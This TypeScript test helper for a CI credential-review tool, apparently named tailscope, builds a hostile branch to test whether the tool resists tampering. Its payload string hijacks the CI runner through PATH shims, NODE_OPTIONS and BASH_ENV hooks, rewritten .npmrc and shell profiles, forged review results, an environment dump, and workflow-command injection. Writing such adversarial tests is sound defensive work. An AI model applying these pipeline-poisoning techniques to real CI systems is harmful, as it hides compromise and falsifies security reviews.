/** A branch whose program gains everything, and does what it can so that nobody is told. */

import { cpSync, existsSync, mkdirSync, readdirSync, symlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { fileURLToPath } from "node:url";

const root = fileURLToPath(new URL("../..", import.meta.url));

/**
 * Packages as `npm ci` puts them there: this checkout's, and a copy of tailscope that the branch
 * may change.
 *
 * @param compiler the real one takes seconds; the stand-in finds no fault with any program
 */
export function installPackages(workspace: string, compiler: "real" | "stand-in"): void {
  const modules = join(workspace, "node_modules");
  mkdirSync(join(modules, ".bin"), { recursive: true });
  for (const name of readdirSync(join(root, "node_modules"))) {
    if (/^(\.|tailscope)/.test(name)) continue;
    symlinkSync(join(root, "node_modules", name), join(modules, name));
  }
  for (const part of ["package.json", "bin", "dist", "node_modules"]) {
    if (!existsSync(join(root, "provider", part))) continue; // npm may need no folder of its own.
    cpSync(join(root, "provider", part), join(modules, "tailscope", part), { recursive: true });
  }
  const tsc = join(modules, ".bin", "tsc");
  if (compiler === "real") symlinkSync("../typescript/bin/tsc", tsc);
  else writeFileSync(tsc, "#!/bin/sh\n", { mode: 0o755 });
  symlinkSync("../tailscope/bin/tailscope.js", join(modules, ".bin", "tailscope"));
}

/** The name of its credential: a command to the log of whoever prints it. */
export const hostileName = "##[set-output name=code]0 ::set-output name=code::0";

/** What is run while Pulumi runs the branch's program, in the job that previews. */
const attack = `
const fs = require("node:fs"), path = require("node:path");
const at = (...parts) => path.join(process.cwd(), ...parts);
const write = (file, text, mode) => {
  fs.mkdirSync(path.dirname(file), { recursive: true });
  fs.rmSync(file, { force: true });
  fs.writeFileSync(file, text, { mode });
};
const add = (variable, text) => process.env[variable] && fs.appendFileSync(process.env[variable], text + "\\n");
const lie = "#!/bin/sh\\ntouch " + at("lied") + "\\necho No credential changes.\\nexit 0\\n";
const liar = "require('node:fs').writeFileSync(" + JSON.stringify(at("lied")) + ", ''); console.log('No credential changes.'); process.exit(0);";

// What the review would be run with, were it run here.
for (const file of ["bin/tailscope.js", "dist/cli/main.js", "dist/review/review.js"]) write(at("node_modules/tailscope", file), liar, 0o755);
for (const name of ["node", "npm", "npx", "tailscope", "git", "sed", "wc", "cp"]) write(at("evil", name), lie, 0o755);
write(at("evil/rc"), lie, 0o755);
write(at("evil/rc.js"), liar);

// What later steps and jobs might read.
add("GITHUB_PATH", at("evil"));
add("GITHUB_ENV", ["PATH=" + at("evil"), "NODE_OPTIONS=--require=" + at("evil/rc.js"), "BASH_ENV=" + at("evil/rc"), "NPM_CONFIG_REGISTRY=http://127.0.0.1:9", "TOOL=" + at("node_modules/tailscope")].join("\\n"));
write(at("dotenv"), ["PATH=" + at("evil"), "NODE_OPTIONS=--require=" + at("evil/rc.js"), "BASH_ENV=" + at("evil/rc"), "CODE=0", "FAIL_ON=never", "CI_API_V4_URL=http://127.0.0.1:9"].join("\\n"));
for (const variable of ["GITHUB_OUTPUT", "GITHUB_STEP_SUMMARY"]) add(variable, "code=0\\nverdict=none\\nreviewed=true");
for (const folder of [at(), process.env.HOME]) {
  write(path.join(folder, ".npmrc"), "registry=http://127.0.0.1:9\\nignore-scripts=false\\nscript-shell=" + at("evil/npm") + "\\nnode-options=--require=" + at("evil/rc.js") + "\\n");
}
for (const file of [".bashrc", ".profile", ".bash_profile"]) write(path.join(process.env.HOME, file), lie);

// The preview's siblings, for a reviewer that looks around.
write(at("package.json"), JSON.stringify({ main: "index.js", scripts: { preinstall: at("evil/npm"), prepare: at("evil/npm") } }));
write(at("review.md"), "<!-- tailscope review tailscope-quickstart/dev -->\\n### no gain\\n");
write(at("review.json"), '{"verdict":"none"}');
write(at("tailscope", "dist", "cli", "main.js"), liar);
fs.writeFileSync(path.join(process.env.HOME, "seen.json"), JSON.stringify(process.env));
console.log("::set-output name=code::0");
`;

/** Makes the checkout in `work` the hostile branch's. */
export function takeOver(work: string): void {
  const program = `${attack}
const { OAuthClient } = require("tailscope");
new OAuthClient(${JSON.stringify(hostileName)}, { scopes: ["all"], description: "Nothing to see" });
`;
  writeFileSync(join(work, "index.js"), program);
  writeFileSync(join(work, "package.json"), '{ "main": "index.js" }\n');
  writeFileSync(join(work, "index.ts"), "export {};\n");
}
